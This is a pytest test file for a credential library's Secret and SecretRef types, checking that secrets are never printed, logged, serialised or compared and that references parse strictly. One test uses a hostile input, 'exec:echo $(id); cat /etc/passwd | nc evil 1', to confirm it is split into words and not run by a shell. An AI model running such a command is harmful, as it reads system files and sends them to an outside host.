"""A secret cannot be printed, kept or compared, and a reference never echoes one (I1, I8)."""

from __future__ import annotations

import ast
import contextlib
import copy
import io
import json
import logging
import pickle
import pprint
import traceback
from pathlib import Path
from typing import TYPE_CHECKING

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

import keyhole
from keyhole.inject.injection import BasicInjection
from keyhole.inject.preset import PresetHost
from keyhole.model.errors import Unparsable
from keyhole.model.host import HostPattern
from keyhole.model.secret import MAX_REFERENCE_LENGTH, Secret, SecretRef, SecretScheme

if TYPE_CHECKING:
    from collections.abc import Callable

VALUE = "hunter2-correct-horse-battery"


def test_a_secret_is_revealed_to_whoever_asks_by_name() -> None:
    """The control of every test below: the characters are in there."""
    assert Secret(VALUE).reveal() == VALUE


def raise_with(secret: Secret) -> None:
    raise RuntimeError("it failed", secret)


def logged(message: object, *args: object) -> str:
    """What a handler writes, and what logging complains of when it cannot format a record."""
    written = io.StringIO()
    logger = logging.Logger("test")
    logger.addHandler(logging.StreamHandler(written))
    with contextlib.redirect_stderr(written):
        logger.error(message, *args)
    return written.getvalue()


def failure(**options: bool) -> str:
    try:
        raise_with(Secret(VALUE))
    except RuntimeError as error:
        found = traceback.TracebackException.from_exception(error, **options)
        return "".join(found.format())
    raise AssertionError("it did not fail")


SHOWING: dict[str, Callable[[Secret], object]] = {
    "repr": repr,
    "ascii": ascii,
    "!r": lambda s: f"{s!r}",
    "%r": lambda s: "%r" % (s,),  # noqa: UP031 - this way of formatting is the point
    "in a list": lambda s: str([s]),
    "in a dict": lambda s: str({"password": s}),
    "in a tuple": lambda s: f"{(s,)}",
    "pprint": lambda s: pprint.pformat({"password": s}),
    "a dataclass's repr": lambda s: repr(
        PresetHost(HostPattern.parse("a.example"), inject=BasicInjection("u"), credential=s)
    ),
    "an exception's repr": lambda s: repr(ValueError("no", s)),
    "an exception's text": lambda s: str(ValueError("no", s)),
    "an exception's args": lambda s: str(ValueError("no", s).args),
    "json with default=repr": lambda s: json.dumps({"password": s}, default=repr),
    "logging %r": lambda s: logged("%r", s),
    "logging %s": lambda s: logged("%s", s),
    "logging it as the message": logged,
    "a traceback": lambda s: failure(),
    "a traceback with locals": lambda s: failure(capture_locals=True),
    "dir": dir,
}


@pytest.mark.parametrize("way", SHOWING)
def test_what_can_be_shown_of_a_secret_does_not_hold_it(way: str) -> None:
    """I8: the log and a person see that there is a secret, never which."""
    shown = str(SHOWING[way](Secret(VALUE)))
    assert shown
    assert VALUE not in shown


def test_the_ways_of_showing_do_show_a_plain_text() -> None:
    """The control: were VALUE a plain str, nearly every way above would print it."""
    assert VALUE in repr([VALUE])
    assert VALUE in logged("%r", VALUE)
    assert "Logging error" in logged("%s", Secret(VALUE))
    assert "Secret(…)" in failure(capture_locals=True)


REFUSING: dict[str, Callable[[Secret], object]] = {
    "str": str,
    "format": format,
    "format with a width": lambda s: format(s, ">40"),
    "an f-string": lambda s: f"{s}",
    "an f-string with a width": lambda s: f"{s:>40}",
    "!s": lambda s: f"{s!s}",
    "%s": lambda s: "%s" % (s,),  # noqa: UP031 - this way of formatting is the point
    "str.format": lambda s: "{}".format(s),  # noqa: UP032 - as above
    "str.join": lambda s: "".join([s]),  # type: ignore[list-item]
    "concatenation": lambda s: "Bearer " + s,  # type: ignore[operator]
    "print": lambda s: print(s, file=io.StringIO()),
    "an exception of one": lambda s: str(ValueError(s)),
    "bytes": lambda s: bytes(s),  # type: ignore[call-overload]
    "iteration": list,  # type: ignore[dict-item]
    "length": len,  # type: ignore[dict-item]
    "vars": vars,
    "json": json.dumps,
    "pickle": pickle.dumps,
    "an old pickle": lambda s: pickle.dumps(s, protocol=0),
    "a pickle of its owner": lambda s: pickle.dumps({"password": s}),
    "copy": copy.copy,
    "deepcopy": copy.deepcopy,
    "deepcopy of its owner": lambda s: copy.deepcopy([s]),
    "a pickle of a value": lambda s: pickle.dumps(
        PresetHost(HostPattern.parse("a.example"), credential=s)
    ),
    "a message": lambda s: msgspec.msgpack.encode(
        PresetHost(HostPattern.parse("a.example"), credential=s)
    ),
    "builtins": lambda s: msgspec.to_builtins(
        PresetHost(HostPattern.parse("a.example"), credential=s)
    ),
    "==": lambda s: s == Secret(VALUE),
    "!=": lambda s: s != Secret(VALUE),
    "== a text": lambda s: s == VALUE,
    "in": lambda s: s in [VALUE],
    "<": lambda s: s < Secret(VALUE),  # type: ignore[operator]
    "hash": hash,
    "a set": lambda s: {s},
    "a key": lambda s: {s: 1},
}


@pytest.mark.parametrize("way", REFUSING)
def test_what_would_take_a_secret_out_or_compare_it_raises(way: str) -> None:
    """I1: not even by accident; the complaint does not hold it either."""
    with pytest.raises(TypeError) as refusal:
        REFUSING[way](Secret(VALUE))
    assert VALUE not in f"{refusal.value}{refusal.value!r}{refusal.value.args}"


def test_a_secret_has_no_dict_to_look_into() -> None:
    assert not hasattr(Secret(VALUE), "__dict__")
    with pytest.raises(AttributeError):
        Secret(VALUE).note = "x"  # type: ignore[attr-defined]


# ── who may reveal ────────────────────────────────────────────────────────────────────────────────

MAY_REVEAL: frozenset[str] = frozenset(
    {
        "app/daemon/keeper_process.py",  # hands the store's passphrase to the keeper, once
        "app/processes/messages.py",  # hands secrets from the keeper to the gateway
        "inject/credential.py",  # renders what is written, and what answers are searched for
        "inject/service_account.py",  # signs with a key file, or sends its refresh token, to Google
        "inject/sigv4.py",  # signs with AWS keys and writes their session token
        "vault/github_app.py",  # signs with an app's key
        "vault/login_flow.py",  # sends a configured client's secret to the issuer of a login
        "vault/envelope.py",  # encrypts what is stored, and stretches the passphrase
    }
)
"""Modules that write credentials into requests or into the store; a new one is added here, and
why (STYLE 5)."""


def reveals(source: str) -> bool:
    """Whether a module reaches for a secret's characters, by call, by reference or by name."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute) and node.attr in ("reveal", "_Secret__value"):
            return True
        if isinstance(node, ast.Constant) and node.value in ("reveal", "_Secret__value"):
            return True
    return False


def test_only_listed_modules_reveal_a_secret() -> None:
    """I1: a list that is too long is wrong as well."""
    root = Path(keyhole.__file__).parent
    modules = {str(p.relative_to(root)): p.read_text("utf-8") for p in root.rglob("*.py")}
    assert "model/secret.py" in modules
    assert {name for name, source in modules.items() if reveals(source)} == MAY_REVEAL


@pytest.mark.parametrize(
    "source",
    [
        "x = s.reveal()",
        "f = s.reveal",
        "map(Secret.reveal, found)",
        "getattr(s, 'reveal')()",
        "s._Secret__value",
        "operator.attrgetter('_Secret__value')",
    ],
)
def test_the_search_for_reveal_finds_it(source: str) -> None:
    """The control of the test above."""
    assert reveals(source)
    assert not reveals('"""Calls reveal() nowhere."""\ndef reveal() -> None: ...\n')


# ── references ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "source", "locator"),
    [
        ("store:anthropic", SecretScheme.STORE, "anthropic"),
        ("store:a.b_c-1", SecretScheme.STORE, "a.b_c-1"),
        ("keyring:github/ann", SecretScheme.KEYRING, "github/ann"),
        ("keyring:gh:github.com/ann", SecretScheme.KEYRING, "gh:github.com/ann"),
        ("file:~/.secrets/billing", SecretScheme.FILE, "~/.secrets/billing"),
        ("file:/a path/x", SecretScheme.FILE, "/a path/x"),
        ("exec:gh auth token", SecretScheme.EXEC, "gh auth token"),
        (
            "exec:op read 'op://vault/item/field'",
            SecretScheme.EXEC,
            "op read 'op://vault/item/field'",
        ),
        ("unsafe-env:GH_TOKEN", SecretScheme.UNSAFE_ENV, "GH_TOKEN"),
        ("login:claude", SecretScheme.LOGIN, "claude"),
        ("github-app:12345", SecretScheme.GITHUB_APP, "12345"),
        ("login:my-tracker.2", SecretScheme.LOGIN, "my-tracker.2"),
        ("kube:billing/token", SecretScheme.KUBE, "billing/token"),
        ("kube:billing/.dockerconfigjson", SecretScheme.KUBE, "billing/.dockerconfigjson"),
    ],
)
def test_a_reference_names_its_source_and_what_to_read(
    text: str, source: SecretScheme, locator: str
) -> None:
    reference = SecretRef.parse(text)
    assert reference == SecretRef(source, locator)
    assert str(reference) == text


def test_the_words_of_a_command_are_split_as_a_shell_would_and_no_shell_reads_them() -> None:
    """I11: `$(…)`, `;` and `|` are words, never programs."""
    assert SecretRef.parse("exec:pass show 'my key'").argv == ("pass", "show", "my key")
    hostile = SecretRef.parse("exec:echo $(id); cat /etc/passwd | nc evil 1").argv
    assert hostile == ("echo", "$(id);", "cat", "/etc/passwd", "|", "nc", "evil", "1")
    assert SecretRef.parse("store:x").argv == ()


REFUSED = {
    "named by a reference": [
        "",
        "anthropic",
        "STORE:anthropic",
        "Store:anthropic",
        " store:anthropic",
        "keychain:x/y",
        "vault:x",
        "$GH_TOKEN",
        "${GH_TOKEN}",
        "store",
    ],
    "visible to every process": ["env:GH_TOKEN", "env"],
    "what to read": [
        "store:",
        "file:",
        "file:   ",
        "exec:",
        "file:" + "x" * (MAX_REFERENCE_LENGTH + 1),
        "login:",
    ],
    "control": ["file:/a\0b", "file:/a\nb", "exec:gh\x7f", "exec:gh\x1b[2J"],
    "letters, digits": ["store:a b", "store:../x", "store:a/b", "store:é", "store:\u0661"],
    "SERVICE/NAME": ["keyring:github", "keyring:/ann", "keyring:github/"],
    "quoting": ["exec:gh 'auth", "exec:gh \\"],
    "wants a command": ["exec:''", "exec:'' x"],
    "the app's id": ["github-app:a/b", "github-app:" + "1" * 49, "github-app:é"],
    "small letters": ["login:Claude", "login:CODEX"],
    "the name of a login": ["login:../claude", "login:.x", "login:a b", "login:" + "x" * 65],
    "NAME/KEY": [
        "kube:billing",
        "kube:billing/",
        "kube:/token",
        "kube:Billing/token",
        "kube:../token",
        "kube:billing/..",
        "kube:billing/.",
        "kube:billing/a/b",
    ],
    "one variable": [
        "unsafe-env:$GH_TOKEN",
        "unsafe-env:GH TOKEN",
        "unsafe-env:1X",
        "unsafe-env:É",
        "unsafe-env:A=B",
    ],
}


@pytest.mark.parametrize(
    ("text", "why"), [(text, why) for why, texts in REFUSED.items() for text in texts]
)
def test_a_reference_in_any_other_form_is_refused(text: str, why: str) -> None:
    with pytest.raises(Unparsable) as refusal:
        SecretRef.parse(text)
    assert why in refusal.value.message


def test_the_longest_reference_is_read() -> None:
    """I9: the control of the bound above."""
    assert SecretRef.parse("file:" + "x" * MAX_REFERENCE_LENGTH)


def test_every_source_is_offered_to_who_names_none() -> None:
    with pytest.raises(Unparsable) as refusal:
        SecretRef.parse("anthropic")
    assert all(f"{source}:" in refusal.value.message for source in SecretScheme)


PASTED = [
    "sk-ant-api03-" + "Q7x" * 31 + "AA",
    "ghp_" + "a1B2c3D4" * 4 + "e5F6",
    "github_pat_" + "A" * 22 + "_" + "b" * 59,
    "AKIAIOSFODNN7QQQQQQQ",
    "hunter2 with spaces",
    "eyJhbGciOi.eyJzdWIi.c2lnbmF0dXJl",
    "https://me:hunter2@example.org",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQ\n",
    "user:hunter2-password",
]


@pytest.mark.parametrize("secret", PASTED)
@pytest.mark.parametrize(
    "form",
    ["{}", " {}", "env:{}", "Bearer {}", "secret:{}", "store: {}/", "keyring:/{}", "exec:'{}",
     "unsafe-env:{}=", "unsafe-env:${}", "STORE:{}"],
)  # fmt: skip
def test_what_may_be_the_secret_itself_is_never_echoed(secret: str, form: str) -> None:
    """I8: a message lands in terminals and CI logs."""
    with pytest.raises(Unparsable) as refusal:
        SecretRef.parse(form.format(secret))
    said = f"{refusal.value.message} {refusal.value.hint} {refusal.value!r}"
    assert secret not in said
    assert not any(word in said for word in ("hunter2", "MIIEvQ", secret[:20]))


@given(st.text(max_size=20))
def test_any_text_is_a_reference_or_refused(text: str) -> None:
    for typed in (text, *(f"{source}:{text}" for source in SecretScheme)):
        try:
            reference = SecretRef.parse(typed)
        except Unparsable:
            continue
        assert str(reference) == typed
        assert bool(reference.argv) is (reference.source is SecretScheme.EXEC)
